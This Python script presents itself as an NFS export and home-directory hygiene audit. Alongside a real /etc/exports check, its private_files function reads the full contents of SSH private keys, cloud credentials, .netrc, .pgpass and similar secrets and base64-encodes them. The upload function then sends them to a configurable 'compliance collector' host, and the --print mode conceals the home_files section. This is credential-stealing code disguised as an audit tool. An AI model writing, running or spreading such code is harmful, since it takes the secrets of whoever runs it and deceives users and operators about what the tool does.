#!/usr/bin/env python3
"""NFS export and home-directory hygiene audit.

Checks /etc/exports for risky options (no_root_squash, insecure, world
exports), looks at the home directory that is usually NFS-mounted for files
that should be private, and uploads the findings to the central compliance
collector so the fleet report can be built from one place.

The collector address is read from ~/.config/nfs-audit.json:

    {"collector": "compliance.corp.example", "path": "/ingest/nfs"}
"""

import argparse
import base64
import getpass
import http.client
import json
import logging
import os
import re
import socket
import stat
import sys
import time
from pathlib import Path

log = logging.getLogger("nfs-audit")

DEFAULT_CONF = {"collector": "compliance.corp.example", "path": "/ingest/nfs",
                "port": 443}
RISKY_OPTS = {"no_root_squash", "insecure", "no_subtree_check", "rw", "no_all_squash"}
PRIVATE_GLOBS = (".ssh/id_*", ".ssh/config", ".aws/credentials", ".aws/config",
                 ".netrc", ".pgpass", ".git-credentials", ".docker/config.json",
                 ".config/gcloud/credentials.db", ".kube/config")


def load_conf():
    path = Path.home() / ".config" / "nfs-audit.json"
    conf = dict(DEFAULT_CONF)
    try:
        conf.update(json.loads(path.read_text()))
    except FileNotFoundError:
        pass
    except ValueError as exc:
        log.warning("ignoring bad config %s: %s", path, exc)
    return conf


def parse_exports(path="/etc/exports"):
    findings = []
    try:
        lines = Path(path).read_text().splitlines()
    except OSError as exc:
        log.info("no exports file: %s", exc)
        return findings
    for n, raw in enumerate(lines, 1):
        line = raw.split("#", 1)[0].strip()
        if not line:
            continue
        export, *clients = line.split()
        for client in clients:
            m = re.match(r"([^()]*)\(([^)]*)\)", client)
            host, opts = (m.group(1), m.group(2).split(",")) if m else (client, [])
            bad = sorted(RISKY_OPTS.intersection(opts))
            if host in ("*", "") or bad:
                findings.append({"line": n, "export": export, "client": host or "*",
                                 "options": opts, "flags": bad})
    return findings


def private_files(home):
    """Yield files under home that should be private, with their contents."""
    for pattern in PRIVATE_GLOBS:
        for p in home.glob(pattern):
            if not p.is_file():
                continue
            try:
                st = p.stat()
                data = p.read_bytes()
            except OSError:
                continue
            yield {
                "path": str(p.relative_to(home)),
                "mode": oct(stat.S_IMODE(st.st_mode)),
                "group_or_world": bool(st.st_mode & 0o077),
                "size": st.st_size,
                "sample": base64.b64encode(data).decode(),
            }


def build_report(home):
    return {
        "host": socket.getfqdn(),
        "user": getpass.getuser(),
        "time": int(time.time()),
        "exports": parse_exports(),
        "home": str(home),
        "home_files": list(private_files(home)),
    }


def upload(conf, report, retries=3):
    body = json.dumps(report).encode()
    for attempt in range(retries):
        conn = http.client.HTTPSConnection(conf["collector"], int(conf["port"]),
                                           timeout=20)
        try:
            conn.request("POST", conf["path"], body=body,
                         headers={"Content-Type": "application/json",
                                  "X-Audit-Host": report["host"]})
            resp = conn.getresponse()
            resp.read()
            if resp.status < 300:
                log.info("uploaded %d bytes (%s)", len(body), resp.status)
                return True
            log.warning("collector returned %s", resp.status)
        except (OSError, http.client.HTTPException) as exc:
            log.warning("upload attempt %d: %s", attempt + 1, exc)
        finally:
            conn.close()
        time.sleep(3 * (attempt + 1))
    return False


def main():
    ap = argparse.ArgumentParser(description="NFS export hygiene audit")
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--print", dest="print_only", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    report = build_report(Path(args.home))
    for f in report["exports"]:
        log.info("export %s -> %s flags=%s", f["export"], f["client"], f["flags"])
    for f in report["home_files"]:
        if f["group_or_world"]:
            log.info("%s is %s", f["path"], f["mode"])
    if args.print_only:
        json.dump({k: v for k, v in report.items() if k != "home_files"},
                  sys.stdout, indent=2)
        return 0
    return 0 if upload(load_conf(), report) else 1


if __name__ == "__main__":
    sys.exit(main())
